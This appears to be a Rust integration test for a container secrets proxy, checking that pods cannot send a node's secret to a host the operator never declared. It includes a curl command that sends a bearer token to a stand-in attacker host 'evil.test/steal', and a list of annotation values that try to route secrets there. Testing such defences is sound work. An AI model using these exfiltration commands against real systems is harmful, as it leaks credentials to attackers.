//! Where a node's secret may be sent is the node owner's decision, never
//! the pod author's: a pod's annotation that names a secret of the node
//! with a host of its own choosing (a server it controls) is refused at
//! create, and that server receives nothing; the hosts the operator
//! declared (`NAME.hosts` in the secrets directory) still get the value.

use crate::common::text;
use crate::suite::containerd::{tls_echo, with_image, NODE_KEY};
use std::path::Path;

/// A profile of the node's catalogue that pins both names to the node's
/// loopback and trusts both servers: the pod reaches either one, so only
/// the secret's declared hosts keep the value from the attacker's.
fn both_reachable(ports: [u16; 2], cas: [&Path; 2]) -> String {
    format!(
        "filesystem:\n  read_only: [/usr]\negress:\n  domains: [\"api.secret.test:{}\", \"evil.test:{}\"]\n  upstream_ca: [{}, {}]\n  hosts: {{api.secret.test: 127.0.0.1, evil.test: 127.0.0.1}}\n",
        ports[0],
        ports[1],
        cas[0].display(),
        cas[1].display()
    )
}

#[test]
fn a_pod_cannot_send_a_node_secret_to_a_host_the_operator_never_declared_for_it() {
    let Some(c) = with_image() else { return };
    if !Path::new("/usr/bin/curl").exists() {
        eprintln!("SKIPPED: no /usr/bin/curl to bind into the container as its HTTPS client");
        return;
    }
    let (port, ca, seen) = tls_echo(c.dir.path(), "api.secret.test");
    let (evil_port, evil_ca, evil_seen) = tls_echo(c.dir.path(), "evil.test");
    let token = "ghp_nodetoken_5a0c9e12";
    let secrets = c.dir.path().join("secrets");
    std::fs::write(secrets.join("token"), token).unwrap();
    std::fs::write(
        secrets.join("token.hosts"),
        format!("# the operator's\napi.secret.test:{port}\n"),
    )
    .unwrap();
    // An undeclared file of the directory: no pod may send it anywhere.
    std::fs::write(secrets.join("undeclared"), token).unwrap();
    c.node_profile("both", &both_reachable([port, evil_port], [&ca, &evil_ca]));
    let evil = format!("evil.test:{evil_port}");
    let script = format!(
        "/usr/bin/curl -sS --cacert /run/warden/ca-bundle.crt -H \"Authorization: Bearer $T\" https://{evil}/steal; /usr/bin/curl -sS --cacert /run/warden/ca-bundle.crt -H \"Authorization: Bearer $T\" https://api.secret.test:{port}/use"
    );
    let attacks = [
        format!("file:token@{evil}"),
        format!("file:token@api.secret.test:{port},{evil}"),
        format!("file:undeclared@{evil}"),
        "file:undeclared".to_string(),
        format!("env:WARDEN_SECRET_KEY@{evil}"),
        "env:WARDEN_SECRET_KEY".to_string(),
    ];
    for (n, value) in attacks.iter().enumerate() {
        let o = c.run(
            &format!("attack{n}"),
            &[
                "--annotation",
                &format!("warden.dev/secret.T={value}"),
                "--annotation",
                "warden.dev/profile=both",
            ],
            &["sh", "-c", &script],
        );
        let err = text(&o.stderr);
        assert!(!o.status.success(), "{value}: ran: {}", text(&o.stdout));
        assert!(err.contains("warden.dev/secret.T"), "{value}: {err}");
        assert!(
            !err.contains(&c.dir.path().display().to_string()),
            "{value}: names the node's directory: {err}"
        );
    }
    // Refused at create: nothing ran, so nothing reached the pod's server.
    let arrived = evil_seen.lock().unwrap().clone();
    assert!(arrived.is_empty(), "the pod's own server got {arrived:?}");
    let left: Vec<_> = std::fs::read_dir(c.runtime_root().join("warden-test/sandboxes"))
        .map(|d| d.flatten().collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "left behind: {left:?}");

    // The declared host, named or not, gets the real value; the pod's own
    // server, reachable by the same profile, never does.
    for (n, value) in [
        format!("file:token@api.secret.test:{port}"),
        "file:token".into(),
    ]
    .iter()
    .enumerate()
    {
        let o = c.run(
            &format!("declared{n}"),
            &[
                "--annotation",
                &format!("warden.dev/secret.T={value}"),
                "--annotation",
                "warden.dev/profile=both",
            ],
            &["sh", "-c", &script],
        );
        assert!(
            o.status.success(),
            "{value}: {} {}\n{}",
            text(&o.stdout),
            text(&o.stderr),
            c.log()
        );
    }
    let lower = |v: &[String]| v.iter().map(|h| h.to_ascii_lowercase()).collect::<Vec<_>>();
    let got = lower(&seen.lock().unwrap());
    assert_eq!(got.len(), 2, "{got:?}");
    for g in &got {
        assert!(g.contains(&format!("bearer {token}\r\n")), "{got:?}");
    }
    // What reached the pod's own server (if anything: the proxy may keep
    // a request with a placeholder from a host that is not the secret's)
    // holds neither the value nor the node's key.
    let stolen = lower(&evil_seen.lock().unwrap());
    for s in &stolen {
        assert!(!s.contains(token) && !s.contains(NODE_KEY), "{stolen:?}");
    }
}
